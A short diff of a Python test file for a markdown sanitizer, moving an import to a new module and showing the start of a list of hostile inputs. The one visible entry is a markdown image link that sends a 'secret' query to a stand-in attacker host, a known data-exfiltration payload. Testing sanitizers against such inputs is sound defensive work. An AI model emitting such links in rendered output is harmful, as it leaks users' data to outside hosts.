@@ -3,7 +3,7 @@ import re
 import pytest
 from markdown_it import MarkdownIt
 
-from pages.widgets.sanitize import WORD_JOINER, plain, safe_markdown
+from engine.export.harmless import WORD_JOINER, plain, safe_markdown
 
 HOSTILE = [
     "![a](https://evil.example/?q=secret)",
